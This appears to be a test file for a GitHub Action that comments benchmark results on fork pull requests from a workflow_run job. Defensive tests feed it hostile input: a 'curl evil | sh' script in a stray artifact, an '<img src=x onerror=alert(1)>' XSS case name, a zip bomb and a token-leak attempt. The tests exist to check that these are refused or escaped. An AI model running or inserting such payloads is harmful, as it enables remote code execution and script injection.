/**
 * A fork's pull request gets its comment from a `workflow_run` job. The pull-request workflow runs
 * the bundled action with mode: collect against a local stand-in for the results service; the
 * workflow_run job runs it with mode: merge and finds the triggering run's artifacts, the zip
 * behind the API's redirect, the pull request and the comments through a local stand-in for the
 * REST API (GITHUB_API_URL), with the real @actions/artifact client. Real git remote for the trend.
 */
import { readdir, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { uploadArtifact } from '../../src/effects/artifact.js';
import { runAction } from '../helpers/run-action.js';
import { GitHubApiServer, type StoredPull } from './helpers/github-api-server.js';
import { gitSandbox, type GitSandbox } from './helpers/git-server.js';
import { artifactEnv, artifactServiceHere, setEnv, startResultsService, type ResultsService } from './helpers/results-service.js';

const BASE = '1234567890abcdef1234567890abcdef12345678';
const HEAD = 'c'.repeat(40);
const HEAD2 = 'e'.repeat(40);
const TOKEN = 'ghs_workflowRunTOKEN0123456789';
const PR = 21;

const record = (shape: string, attach: number) =>
  JSON.stringify({ shape, runs: [0.98, 1, 1.02].map((f) => ({ total_seconds: (0.2 + attach) * f, stages: { 'host-prep': 0.2 * f, attach: attach * f } })) });

/** The fork's pull_request event as its collect job sees it. */
const forkPullRequest = (head: string) => ({
  name: 'pull_request',
  payload: { pull_request: { number: PR, head: { sha: head, ref: 'feature', repo: { full_name: 'fork/repo' } }, base: { ref: 'main', repo: { full_name: 'owner/repo' } } } },
});

/** The workflow_run event of the base repository once that run completed: pull_requests is empty for a fork. */
const workflowRun = (runId: number, head: string) => ({
  name: 'workflow_run',
  payload: {
    action: 'completed',
    workflow_run: {
      id: runId,
      event: 'pull_request',
      conclusion: 'success',
      head_sha: head,
      head_branch: 'feature',
      head_repository: { full_name: 'fork/repo', owner: { login: 'fork' } },
      repository: { full_name: 'owner/repo' },
      pull_requests: [],
    },
    repository: { full_name: 'owner/repo', default_branch: 'main' },
  },
});

let sb: GitSandbox;
let service: ResultsService;
let api: GitHubApiServer;
let remote: string;
let baseTip: string | undefined;
let restore: () => void = () => {};
/** Every case but a triggering push leaves the trend as the base branch had it. */
let publishes = false;

/** The base branch's trend, published once by the bundled action; each test runs on a copy. */
let seeded: GitSandbox;
let template: string;

beforeAll(async () => {
  seeded = await gitSandbox('benchtrend-workflow-run-');
  template = await seeded.bareRemote('site');
  await writeFile(join(seeded.root, 'warm.json'), record('warm', 1.5));
  const base = await runAction({ cwd: seeded.root, inputs: { records: 'warm.json', repository: template, artifact: 'false' }, event: { name: 'push', payload: {} }, env: { ...seeded.env, GITHUB_SHA: BASE } });
  await base.dispose();
  expect(base.code, base.stdout).toBe(0);
  baseTip = await seeded.revParse(template, 'refs/heads/gh-pages');
  expect(baseTip).toBeDefined();
});
afterAll(async () => {
  await seeded.dispose();
});

beforeEach(async () => {
  sb = await gitSandbox('benchtrend-workflow-run-');
  service = await startResultsService();
  api = await GitHubApiServer.start();
  remote = await sb.copyRemote(template, 'site');
  await writeFile(join(sb.root, 'warm.json'), record('warm', 1.5));
});
afterEach(async () => {
  restore();
  restore = () => {};
  // Whatever the case, the trend is the base branch's: nothing of the pull request was pushed.
  if (!publishes) expect(await sb.revParse(remote, 'refs/heads/gh-pages')).toBe(baseTip);
  publishes = false;
  await api.close();
  await service.close();
  await sb.dispose();
});

/** The fork's pull request, open, as the REST API lists it. */
function openPull(head: string, listedForCommit = true): StoredPull {
  const pull: StoredPull = {
    number: PR,
    state: 'open',
    head: { sha: head, ref: 'feature', label: 'fork:feature', repo: { full_name: 'fork/repo' } },
    base: { ref: 'main', repo: { full_name: 'owner/repo' } },
    listedForCommit,
  };
  api.pulls.push(pull);
  return pull;
}

/** The pull-request workflow's bench job: mode collect, read-only token, in workflow run `runId`. */
async function collectJob(runId: number, head: string, file: string, inputs: Record<string, string> = {}) {
  const leg = await runAction({
    cwd: sb.root,
    inputs: { records: file, mode: 'collect', ...inputs },
    event: forkPullRequest(head),
    env: { ...sb.env, ...artifactEnv(service, `run-${runId}`, 'job-bench'), GITHUB_SHA: 'd'.repeat(40), GITHUB_RUN_ID: String(runId), GITHUB_JOB: 'bench', GITHUB_API_URL: api.url },
  });
  await leg.dispose();
  expect(leg.code, leg.stdout).toBe(0);
}

/**
 * The REST API's view of workflow run `runId`: its artifacts as the service stores them, each
 * download a redirect to the service's signed blob URL. `size` overrides what the listing says.
 */
function serveRunArtifacts(runId: number, size?: number): void {
  const stored = service.artifacts.filter((a) => a.runBackendId === `run-${runId}` && a.finalized);
  api.runArtifacts.set(
    runId,
    stored.map((a) => ({ id: a.id, name: a.name, size_in_bytes: size ?? a.size, ...(a.digest ? { digest: a.digest } : {}), created_at: a.createdAt })),
  );
  for (const a of stored) api.artifactDownloads.set(a.id, service.downloadUrl(a.id));
}

/** The base repository's workflow_run job: mode merge with a token that may comment. */
async function workflowRunJob(runId: number, head: string) {
  const run = await runAction({
    cwd: sb.root,
    inputs: { mode: 'merge', repository: remote, 'github-token': TOKEN },
    event: workflowRun(runId, head),
    env: { ...sb.env, ...artifactEnv(service, 'run-900', 'job-comment'), GITHUB_SHA: BASE, GITHUB_RUN_ID: '900', GITHUB_JOB: 'comment', GITHUB_API_URL: api.url },
  });
  await run.dispose();
  return run;
}

/** An artifact uploaded to run `runId` as a hostile fork could: any name, any content. */
async function uploadAs(runId: number, name: string, files: { name: string; text: string }[]): Promise<void> {
  restore = setEnv({ ...artifactEnv(service, `run-${runId}`, 'job-evil') });
  try {
    await uploadArtifact(artifactServiceHere(sb.root), { name, files });
  } finally {
    restore();
    restore = () => {};
  }
}

const blobDownloads = () => service.requests.filter((r) => r.call === 'blob-download');

describe('mode merge on a workflow_run of a fork’s pull request', () => {
  it('creates the pull request’s comment from the artifact, then edits it on the next push', async () => {
    const pull = openPull(HEAD);
    await collectJob(41, HEAD, 'warm.json');
    serveRunArtifacts(41);

    const first = await workflowRunJob(41, HEAD);
    expect(first.code, first.stdout).toBe(0);
    expect(first.outputs['merged-artifacts']).toBe('1');
    expect(first.outputs['published-commit']).toBeUndefined();
    expect(first.stdout).toContain('Pull request #21 found by its commit');
    expect(first.stdout).toContain('Pull requests never publish');
    let comments = api.issueComments.get(PR) ?? [];
    expect(comments).toHaveLength(1);
    expect(comments[0]!.body).toContain('<!-- benchtrend:pr-comment suite=default -->');
    expect(comments[0]!.body).toContain('warm / attach');
    expect(comments[0]!.body).toContain(`at ${HEAD.slice(0, 7)}`);
    // The list and the redirect went to the API with the token; the zip came from blob storage without it.
    expect(api.requestsTo('GET', /\/actions\/runs\/41\/artifacts$/)).toHaveLength(1);
    expect(api.requestsTo('GET', /\/actions\/artifacts\/\d+\/zip$/).map((r) => r.status)).toEqual([302]);
    expect(api.requestsTo('GET', /\/commits\/c+\/pulls$/)).toHaveLength(1);
    expect(blobDownloads()).toHaveLength(1);
    expect(blobDownloads()[0]!.authorization).toBeUndefined();
    expect(blobDownloads()[0]!.url).not.toContain(TOKEN);
    // The runner masks it; no other line carries it.
    expect(first.stdout.split('\n').filter((l) => l.includes(TOKEN) && !l.startsWith('::add-mask::'))).toEqual([]);

    // The fork pushes a slower head; its new run collects again and the same comment is edited.
    await writeFile(join(sb.root, 'warm.json'), record('warm', 3));
    pull.head.sha = HEAD2;
    await collectJob(42, HEAD2, 'warm.json');
    serveRunArtifacts(42);
    const second = await workflowRunJob(42, HEAD2);
    expect(second.code, second.stdout).toBe(0);
    comments = api.issueComments.get(PR) ?? [];
    expect(comments).toHaveLength(1);
    expect(comments[0]!.body).toContain(`at ${HEAD2.slice(0, 7)}`);
    expect(comments[0]!.body).not.toContain(`at ${HEAD.slice(0, 7)}`);
    expect(api.requestsTo('PATCH', /\/issues\/comments\/\d+$/)).toHaveLength(1);
    expect(api.requestsTo('POST', /\/issues\/\d+\/comments$/)).toHaveLength(1);
  });

  it('finds a fork’s pull request by its head owner:branch when the commit lookup lists none', async () => {
    openPull(HEAD, false);
    await collectJob(43, HEAD, 'warm.json');
    serveRunArtifacts(43);

    const run = await workflowRunJob(43, HEAD);

    expect(run.code, run.stdout).toBe(0);
    expect(run.stdout).toContain('Pull request #21 found by its head branch');
    expect(api.requestsTo('GET', /^\/repos\/owner\/repo\/pulls$/).map((r) => new URL(r.url, api.url).searchParams.get('head'))).toEqual(['fork:feature']);
    expect(api.issueComments.get(PR) ?? []).toHaveLength(1);
  });

  it('falls back to the head owner:branch when the commit lookup fails (a 404 for a fork’s commit)', async () => {
    openPull(HEAD);
    api.failNext({ method: 'GET', path: /\/commits\/c+\/pulls$/, status: 404, times: 1 });
    await collectJob(47, HEAD, 'warm.json');
    serveRunArtifacts(47);

    const run = await workflowRunJob(47, HEAD);

    expect(run.code, run.stdout).toBe(0);
    expect(run.stdout).toContain('Pull request #21 found by its head branch');
    expect(api.issueComments.get(PR) ?? []).toHaveLength(1);
  });

  it('leaves the comment of a newer head alone when the run of an older head finishes last or is run again', async () => {
    const pull = openPull(HEAD2);
    await writeFile(join(sb.root, 'warm.json'), record('warm', 3));
    await collectJob(48, HEAD, 'warm.json');
    serveRunArtifacts(48);
    await writeFile(join(sb.root, 'warm.json'), record('warm', 1.5));
    await collectJob(49, HEAD2, 'warm.json');
    serveRunArtifacts(49);
    expect((await workflowRunJob(49, HEAD2)).code).toBe(0);
    const newer = (api.issueComments.get(PR) ?? [])[0]?.body;
    expect(newer).toContain(`at ${HEAD2.slice(0, 7)}`);

    const stale = await workflowRunJob(48, HEAD);

    expect(stale.code, stale.stdout).toBe(0);
    expect(stale.stdout).toContain(`No pull-request comment was written: pull request #21 has moved on to ${HEAD2.slice(0, 7)} since this run benched ${HEAD.slice(0, 7)}; the run of its head writes the comment`);
    expect((api.issueComments.get(PR) ?? []).map((c) => c.body)).toEqual([newer]);
    // A head that is still the pull request's is commented as before.
    pull.head.sha = HEAD;
    expect((await workflowRunJob(48, HEAD)).code).toBe(0);
    expect((api.issueComments.get(PR) ?? []).map((c) => c.body.includes(`at ${HEAD.slice(0, 7)}`))).toEqual([true]);
  });

  it('comments on each open pull request whose head is the run’s, not on the first one listed only', async () => {
    openPull(HEAD);
    // The same fork branch proposed to a release branch too: one head, two pull requests.
    api.pulls.push({ number: 22, state: 'open', head: { sha: HEAD, ref: 'feature', label: 'fork:feature', repo: { full_name: 'fork/repo' } }, base: { ref: 'release', repo: { full_name: 'owner/repo' } }, listedForCommit: true });
    await collectJob(55, HEAD, 'warm.json');
    serveRunArtifacts(55);

    const run = await workflowRunJob(55, HEAD);

    expect(run.code, run.stdout).toBe(0);
    expect(run.stdout).toContain('Pull requests #21 and #22 found by their commit');
    // Each told what it was compared with: the trend is one per suite, which a pull request to the
    // default branch reads as its base's, and one to a release branch must not.
    const [main] = (api.issueComments.get(PR) ?? []).map((c) => c.body);
    const [release] = (api.issueComments.get(22) ?? []).map((c) => c.body);
    expect(main?.split('\n')[1]).toBe(`### benchtrend: too little history on main to judge in suite \`default\` at ${HEAD.slice(0, 7)}`);
    expect(main).toContain('Compared with the recent level of each case on main;');
    expect(release?.split('\n')[1]).toBe(`### benchtrend: too little history in the published trend to judge in suite \`default\` at ${HEAD.slice(0, 7)}`);
    expect(release).toContain("Compared with the recent level of each case in the published trend, which is one per suite, not one per branch: this pull request's base, release, is not the default branch, main, and was not compared apart.");
    // Nowhere else is the release branch named as what was compared with.
    expect(release?.split('release')).toHaveLength(2);
    expect(run.summary).toContain('### Against the main trend');
    expect(run.summary).toContain('### Against the published trend');
    expect(run.summary).toContain('### benchtrend merge of pull request #21');
    expect(run.summary).toContain('### benchtrend merge of pull request #22');
  });

  it('comments on at most 5 pull requests sharing the head, and names the others in one warning', async () => {
    openPull(HEAD);
    for (let n = 22; n <= 27; n++) {
      api.pulls.push({ number: n, state: 'open', head: { sha: HEAD, ref: 'feature', label: 'fork:feature', repo: { full_name: 'fork/repo' } }, base: { ref: `release-${n}`, repo: { full_name: 'owner/repo' } }, listedForCommit: true });
    }
    await collectJob(59, HEAD, 'warm.json');
    serveRunArtifacts(59);

    const run = await workflowRunJob(59, HEAD);

    expect(run.code, run.stdout).toBe(0);
    expect([...api.issueComments.keys()].sort()).toEqual([21, 22, 23, 24, 25]);
    expect(run.stdout.split('\n').filter((l) => l.startsWith('::warning::'))).toEqual([
      `::warning::7 open pull requests have the head ${HEAD.slice(0, 7)}: comments were written on the first 5 found, not on #26, #27`,
    ]);
  });

  it('gives a hanging API the network budget it is given for the pull-request lookup, and says the budget was spent', async () => {
    // Takes every request and never answers.
    const hanging = createServer(() => {});
    await new Promise<void>((resolve) => hanging.listen(0, '127.0.0.1', resolve));
    try {
      const run = await runAction({
        cwd: sb.root,
        inputs: { mode: 'merge', repository: remote, 'github-token': TOKEN },
        event: workflowRun(56, HEAD),
        env: {
          ...sb.env,
          ...artifactEnv(service, 'run-900', 'job-comment'),
          GITHUB_SHA: BASE,
          GITHUB_RUN_ID: '900',
          GITHUB_API_URL: `http://127.0.0.1:${(hanging.address() as AddressInfo).port}`,
          BENCHTREND_NETWORK_BUDGET_MS: '1500',
          BENCHTREND_REQUEST_TIMEOUT_MS: '1000',
        },
      });
      await run.dispose();

      expect(run.code, run.stdout).toBe(0);
      expect(run.stdout.split('\n').filter((l) => l.startsWith('::warning::'))).toEqual([
        `::warning::No comment was written: the pull request of ${HEAD.slice(0, 7)} (fork:feature) could not be looked up: listing the pull requests of commit ${HEAD.slice(0, 7)} failed: no answer from the GitHub API: The operation was aborted due to timeout; the 1.5 s benchtrend gives the GitHub API in a run were spent`,
      ]);
    } finally {
      hanging.closeAllConnections();
      await new Promise<void>((resolve) => hanging.close(() => resolve()));
    }
  });

  it('writes no comment on a pull request that was closed after its run benched, and says so', async () => {
    const pull = openPull(HEAD);
    await collectJob(54, HEAD, 'warm.json');
    serveRunArtifacts(54);
    pull.state = 'closed';
    // GitHub lists a same-repository pull request in the event whatever its state when the job starts.
    const event = workflowRun(54, HEAD);
    const listed = { number: PR, head: { sha: HEAD, ref: 'feature' }, base: { ref: 'main', repo: { url: 'https://api.github.com/repos/owner/repo' } } };
    const run = await runAction({
      cwd: sb.root,
      inputs: { mode: 'merge', repository: remote, 'github-token': TOKEN },
      event: { name: 'workflow_run', payload: { workflow_run: { ...event.payload.workflow_run, pull_requests: [listed] } } },
      env: { ...sb.env, ...artifactEnv(service, 'run-900', 'job-comment'), GITHUB_SHA: BASE, GITHUB_RUN_ID: '900', GITHUB_API_URL: api.url },
    });
    await run.dispose();

    expect(run.code, run.stdout).toBe(0);
    expect(run.stdout).toContain(`No pull-request comment was written: pull request #21 is closed; this run benched ${HEAD.slice(0, 7)}`);
    expect(api.issueComments.size).toBe(0);
  });

  it('writes at most 10 comments however many suites a fork’s artifacts hold, the worst first, and keeps one per suite', async () => {
    openPull(HEAD);
    // Eleven suites main has no history of, and the last, main's own suite, slower than main: its comment is among the ten.
    for (let i = 0; i < 12; i++) {
      await writeFile(join(sb.root, `warm${i}.json`), record('warm', i === 11 ? 3 : 1.5));
      await collectJob(50, HEAD, `warm${i}.json`, { suite: i === 11 ? 'default' : `s${String(i).padStart(2, '0')}` });
    }
    serveRunArtifacts(50);

    const run = await workflowRunJob(50, HEAD);

    expect(run.code, run.stdout).toBe(0);
    expect(run.outputs['merged-artifacts']).toBe('12');
    expect(run.stdout).toContain('::warning::12 suites were compared; comments were written for the 10 with the most cases worse than main, one per suite, and the other 2 are in this job\'s summary');
    const comments = api.issueComments.get(PR) ?? [];
    expect(comments).toHaveLength(10);
    expect(comments.filter((c) => c.body.includes('suite=default -->'))).toHaveLength(1);
  });

  it('keeps the first of two comments that two runs at once both wrote, and removes the other', async () => {
    openPull(HEAD);
    await collectJob(51, HEAD, 'warm.json');
    serveRunArtifacts(51);
    expect((await workflowRunJob(51, HEAD)).code).toBe(0);
    const [first] = api.issueComments.get(PR) ?? [];
    // The other run's copy, written after the first by the same bot.
    api.issueComments.set(PR, [first!, { ...first!, id: first!.id + 1 }]);

    expect((await workflowRunJob(51, HEAD)).code).toBe(0);

    expect((api.issueComments.get(PR) ?? []).map((c) => c.id)).toEqual([first!.id]);
    expect(api.requestsTo('DELETE', /\/issues\/comments\/\d+$/).map((r) => [r.url.split('/').pop(), r.status])).toEqual([[String(first!.id + 1), 204]]);
  });

  it('warns once and exits 0 when no pull request has the run’s head, downloading nothing', async () => {
    await collectJob(44, HEAD, 'warm.json');
    serveRunArtifacts(44);

    const run = await workflowRunJob(44, HEAD);

    expect(run.code, run.stdout).toBe(0);
    const warnings = run.stdout.split('\n').filter((l) => l.startsWith('::warning'));
    expect(warnings).toEqual([
      `::warning::No comment was written: no open pull request of owner/repo has the head ${HEAD.slice(0, 7)} (fork:feature) that workflow run 44 benched`,
    ]);
    expect(api.issueComments.size).toBe(0);
    expect(blobDownloads()).toHaveLength(0);
  });

  it('refuses a zip whose payload is not JSON in one line naming the artifact, writes no comment, exits 1', async () => {
    openPull(HEAD);
    await uploadAs(45, 'benchtrend-collect-default-warm-1', [{ name: 'benchtrend-collected.json', text: '{"schema": "benchtrend/coll' }]);
    serveRunArtifacts(45);

    const run = await workflowRunJob(45, HEAD);

    expect(run.code).toBe(1);
    const errors = run.stdout.split('\n').filter((l) => l.startsWith('::error'));
    expect(errors).toHaveLength(1);
    expect(errors[0]).toMatch(/^::error::artifact benchtrend-collect-default-warm-1: benchtrend-collected\.json: not JSON \(/);
    expect(api.issueComments.size).toBe(0);
  });

  it('refuses a bad artifact beside a good one with a warning and comments from the good one', async () => {
    openPull(HEAD);
    await collectJob(46, HEAD, 'warm.json');
    await uploadAs(46, 'benchtrend-collect-stray', [{ name: 'run-me.sh', text: 'curl evil | sh' }]);
    serveRunArtifacts(46);

    const run = await workflowRunJob(46, HEAD);

    expect(run.code, run.stdout).toBe(0);
    expect(run.stdout).toContain(
      '::warning::artifact benchtrend-collect-stray: holds no benchtrend-collected.json; only benchtrend with mode: collect uploads artifacts named benchtrend-collect-*',
    );
    expect(run.outputs['merged-artifacts']).toBe('1');
    expect(api.issueComments.get(PR) ?? []).toHaveLength(1);
  });

  it('shows a hostile case name and note as text in the comment and mentions nobody', async () => {
    openPull(HEAD);
    const shape = '<img src=x onerror=alert(1)>';
    await writeFile(join(sb.root, 'evil.json'), record(shape, 1.5));
    await collectJob(47, HEAD, 'evil.json', { note: '@everyone look' });
    serveRunArtifacts(47);

    const run = await workflowRunJob(47, HEAD);

    expect(run.code, run.stdout).toBe(0);
    const body = (api.issueComments.get(PR) ?? [])[0]?.body ?? '';
    expect(body).toContain('\\<img src\\=x onerror\\=alert\\(1\\)\\> / attach');
    // Markup only where benchtrend put it (its hidden marker); every `<` of the name is escaped.
    expect(body).not.toMatch(/(^|[^\\])<img/);
    expect(body).not.toContain('@everyone');
    expect(run.summary).toContain('img src');
    expect(run.summary).not.toMatch(/(^|[^\\])<img/);
    expect(run.summary).not.toContain('@everyone');
  });

  it('refuses an artifact the listing says is over the size bound, without downloading it', async () => {
    openPull(HEAD);
    await collectJob(48, HEAD, 'warm.json');
    serveRunArtifacts(48, 64 * 1024 * 1024 + 1);

    const run = await workflowRunJob(48, HEAD);

    expect(run.code).toBe(1);
    expect(run.stdout).toContain('::error::artifact benchtrend-collect-default-warm-1: 67108865 bytes, over the limit of 67108864 for a collected artifact');
    expect(blobDownloads()).toHaveLength(0);
    expect(api.issueComments.size).toBe(0);
  });

  it('stops the download of an artifact bigger than its listing says at the size bound, keeping nothing of it', async () => {
    openPull(HEAD);
    // Blob storage behind a listing that says 900 bytes: 80 MiB without a Content-Length.
    const total = 80 * 1024 * 1024;
    let closedEarly: boolean | undefined;
    const lying = createServer((_, res) => {
      res.writeHead(200, { 'content-type': 'application/zip' });
      const chunk = Buffer.alloc(64 * 1024);
      let sent = 0;
      res.on('close', () => (closedEarly = !res.writableFinished));
      const pump = (): void => {
        while (sent < total) {
          sent += chunk.length;
          if (!res.write(chunk)) return void res.once('drain', pump);
        }
        res.end();
      };
      pump();
    });
    await new Promise<void>((resolve) => lying.listen(0, '127.0.0.1', resolve));
    api.runArtifacts.set(53, [{ id: 7100, name: 'benchtrend-collect-default-warm-1', size_in_bytes: 900 }]);
    api.artifactDownloads.set(7100, `http://127.0.0.1:${(lying.address() as AddressInfo).port}/blob/7100.zip?sig=secret`);
    try {
      const run = await runAction({
        cwd: sb.root,
        inputs: { mode: 'merge', repository: remote, 'github-token': TOKEN },
        event: workflowRun(53, HEAD),
        env: { ...sb.env, ...artifactEnv(service, 'run-900', 'job-comment'), GITHUB_SHA: BASE, GITHUB_RUN_ID: '900', GITHUB_API_URL: api.url },
      });
      const left = await readdir(run.runnerTemp);
      await run.dispose();

      expect(run.code, run.stdout).toBe(1);
      expect(run.stdout.split('\n').filter((l) => l.startsWith('::error::'))).toEqual([
        '::error::artifact benchtrend-collect-default-warm-1: the download passed the limit of 67108864 bytes for a collected artifact (the listing said 900 bytes) and was stopped there',
      ]);
      // Cut mid-stream, not read to its end, and no partial file left behind.
      expect(closedEarly).toBe(true);
      expect(left.sort()).toEqual(['event.json', 'github_output', 'step_summary.md']);
      expect(api.issueComments.size).toBe(0);
    } finally {
      lying.closeAllConnections();
      await new Promise<void>((resolve) => lying.close(() => resolve()));
    }
  });

  it('says an artifact expired, and keeps the token out of what a refusing API echoed', async () => {
    openPull(HEAD);
    api.runArtifacts.set(57, [
      { id: 7200, name: 'benchtrend-collect-default-warm-1', size_in_bytes: 900 },
      { id: 7201, name: 'benchtrend-collect-os2-warm-1', size_in_bytes: 900 },
    ]);
    api.failNext({ method: 'GET', path: /\/actions\/artifacts\/7200\/zip$/, status: 410, body: { message: 'Artifact has expired' } });
    api.failNext({ method: 'GET', path: /\/actions\/artifacts\/7201\/zip$/, status: 403, body: { message: `Resource not accessible by token ${TOKEN}` } });

    const run = await workflowRunJob(57, HEAD);

    expect(run.code).toBe(1);
    const error = run.stdout.split('\n').filter((l) => l.startsWith('::error::'));
    expect(error).toEqual([
      '::error::no collected artifact of workflow run 57 could be read: artifact benchtrend-collect-default-warm-1: not downloaded: the GitHub API answered 410: Artifact has expired; artifact benchtrend-collect-os2-warm-1: download failed: the GitHub API answered 403: Resource not accessible by token ***',
    ]);
    expect(run.stdout.split('\n').filter((l) => l.includes(TOKEN) && !l.startsWith('::add-mask::'))).toEqual([]);
    expect(api.issueComments.size).toBe(0);
  });

  it('asks once of an artifact the API redirects to an address that is not HTTP, not three times', async () => {
    openPull(HEAD);
    api.runArtifacts.set(58, [{ id: 7300, name: 'benchtrend-collect-default-warm-1', size_in_bytes: 900 }]);
    api.artifactDownloads.set(7300, 'ftp://127.0.0.1/artifact.zip');

    const run = await workflowRunJob(58, HEAD);

    expect(run.code).toBe(1);
    expect(run.stdout.split('\n').filter((l) => l.startsWith('::error::'))).toEqual([
      '::error::artifact benchtrend-collect-default-warm-1: download failed: the GitHub API redirected to an address that is not HTTP',
    ]);
    expect(api.requestsTo('GET', /\/actions\/artifacts\/7300\/zip$/)).toHaveLength(1);
  });

  it('refuses a payload that inflates past its bound, whatever the zip says', async () => {
    openPull(HEAD);
    // 17 MiB of spaces deflate to a few KB: a small artifact, a big payload.
    await uploadAs(49, 'benchtrend-collect-default-warm-1', [{ name: 'benchtrend-collected.json', text: `{${' '.repeat(17 * 1024 * 1024)}}` }]);
    serveRunArtifacts(49);

    const run = await workflowRunJob(49, HEAD);

    expect(run.code).toBe(1);
    expect(run.stdout).toMatch(/::error::artifact benchtrend-collect-default-warm-1: benchtrend-collected\.json (is \d+ bytes, over the limit of 16777216|inflates past the limit of 16777216 bytes)/);
    expect(api.issueComments.size).toBe(0);
  });

  it('refuses a payload about another commit than the run benched', async () => {
    openPull(HEAD);
    await collectJob(50, HEAD2, 'warm.json');
    serveRunArtifacts(50);

    const run = await workflowRunJob(50, HEAD);

    expect(run.code).toBe(1);
    expect(run.stdout).toContain(`commit.sha ${HEAD2} is not the commit the triggering run benched (${HEAD})`);
    expect(api.issueComments.size).toBe(0);
  });

  it('on GitHub Enterprise Server says artifacts are not supported there', async () => {
    const run = await runAction({
      cwd: sb.root,
      inputs: { mode: 'merge', repository: remote, 'github-token': TOKEN },
      event: workflowRun(51, HEAD),
      env: { ...sb.env, ...artifactEnv(service, 'run-900', 'job-comment'), GITHUB_SERVER_URL: 'https://ghes.example.com', GITHUB_API_URL: api.url },
    });
    await run.dispose();
    expect(run.code).toBe(1);
    expect(run.stdout).toContain(
      '::error::mode: merge on a workflow_run needs workflow artifacts, but artifacts (v4, @actions/artifact 2 and later) are not supported on GitHub Enterprise Server (ghes.example.com)',
    );
    expect(api.requests).toEqual([]);
  });

  it('gives a blob storage that hangs the network budget once for all the artifacts, not once per artifact', async () => {
    openPull(HEAD);
    // Accepts every download and never answers.
    const hanging = createServer(() => {});
    await new Promise<void>((resolve) => hanging.listen(0, '127.0.0.1', resolve));
    const storage = `http://127.0.0.1:${(hanging.address() as AddressInfo).port}`;
    // Sixteen artifacts, four downloads at a time: four rounds of the budget before.
    const names = Array.from({ length: 16 }, (_, i) => `benchtrend-collect-os${String(i).padStart(2, '0')}-warm-1`);
    api.runArtifacts.set(
      52,
      names.map((name, i) => ({ id: 7000 + i, name, size_in_bytes: 900 })),
    );
    names.forEach((_, i) => api.artifactDownloads.set(7000 + i, `${storage}/blob/${7000 + i}?sig=secret`));
    try {
      const started = performance.now();
      const run = await runAction({
        cwd: sb.root,
        inputs: { mode: 'merge', repository: remote, 'github-token': TOKEN },
        event: workflowRun(52, HEAD),
        env: { ...sb.env, ...artifactEnv(service, 'run-900', 'job-comment'), GITHUB_SHA: BASE, GITHUB_RUN_ID: '900', GITHUB_API_URL: api.url, BENCHTREND_NETWORK_BUDGET_MS: '1500' },
      });
      await run.dispose();
      const took = performance.now() - started;
      expect(run.code, run.stdout).toBe(1);
      const error = run.stdout.split('\n').filter((l) => l.startsWith('::error::'));
      expect(error).toHaveLength(1);
      expect(error[0]).toMatch(/^::error::no collected artifact of workflow run 52 could be read: /);
      // The first round hung for the budget; the rest were not started.
      expect(error[0]!.match(/download failed: downloading artifact \S+ did not finish within 1\.5 s/g)).toHaveLength(4);
      expect(error[0]!.match(/not downloaded: the artifact downloads have failed for 1\.5 s, all the time benchtrend gives them/g)).toHaveLength(12);
      // One budget (1.5 s) and the action's own start, not four rounds of it (6 s).
      expect(took).toBeLessThan(4500);
      expect(api.issueComments.size).toBe(0);
    } finally {
      hanging.closeAllConnections();
      await new Promise<void>((resolve) => hanging.close(() => resolve()));
    }
  });
});

describe('mode merge on a workflow_run of a merge queue', () => {
  it('merges nothing and says the merge_group run itself is where the queue is compared and held', async () => {
    const queued = 'e'.repeat(40);
    const event = workflowRun(61, queued);
    const run = await runAction({
      cwd: sb.root,
      inputs: { mode: 'merge', repository: remote, 'github-token': TOKEN },
      event: { name: 'workflow_run', payload: { workflow_run: { ...event.payload.workflow_run, event: 'merge_group', head_branch: `gh-readonly-queue/main/pr-7-${queued}` } } },
      env: { ...sb.env, ...artifactEnv(service, 'run-901', 'job-comment'), GITHUB_SHA: queued, GITHUB_RUN_ID: '901', GITHUB_API_URL: api.url },
    });
    await run.dispose();

    expect(run.code, run.stdout).toBe(0);
    expect(run.stdout).toContain('Workflow run 61 was triggered by a merge_group event: nothing is merged or published here.');
    expect(run.stdout).toContain('where fail-on-regression can hold the queue');
    expect(await sb.revParse(remote, 'refs/heads/gh-pages')).toBe(baseTip);
    expect(api.requests.filter((r) => r.url.includes('/artifacts'))).toEqual([]);
  });
});

describe('mode merge on a workflow_run of a push', () => {
  it('publishes the triggering run’s points at its head, as a merge on a push does', async () => {
    publishes = true;
    const pushed = 'f'.repeat(40);
    await writeFile(join(sb.root, 'cold.json'), record('cold', 2));
    const leg = await runAction({
      cwd: sb.root,
      inputs: { records: 'cold.json', mode: 'collect' },
      event: { name: 'push', payload: {} },
      env: { ...sb.env, ...artifactEnv(service, 'run-60', 'job-bench'), GITHUB_SHA: pushed, GITHUB_RUN_ID: '60', GITHUB_JOB: 'bench', GITHUB_API_URL: api.url },
    });
    await leg.dispose();
    expect(leg.code, leg.stdout).toBe(0);
    serveRunArtifacts(60);
    const event = workflowRun(60, pushed);
    const run = await runAction({
      cwd: sb.root,
      inputs: { mode: 'merge', repository: remote, 'github-token': TOKEN },
      event: { name: 'workflow_run', payload: { workflow_run: { ...event.payload.workflow_run, event: 'push', head_branch: 'main', head_repository: { full_name: 'owner/repo', owner: { login: 'owner' } } } } },
      env: { ...sb.env, ...artifactEnv(service, 'run-900', 'job-comment'), GITHUB_SHA: pushed, GITHUB_RUN_ID: '900', GITHUB_API_URL: api.url },
    });
    await run.dispose();

    expect(run.code, run.stdout).toBe(0);
    const tip = await sb.revParse(remote, 'refs/heads/gh-pages');
    expect(tip, run.stdout).not.toBe(baseTip);
    expect(run.outputs['published-commit']).toBe(tip);
    expect(run.outputs['merged-artifacts']).toBe('1');
    expect(run.summary).toContain('1 collected artifact, 3 points in 1 suite.');
    expect(api.requestsTo('GET', /\/pulls$/)).toEqual([]);
    expect(api.issueComments.size).toBe(0);
  });
});
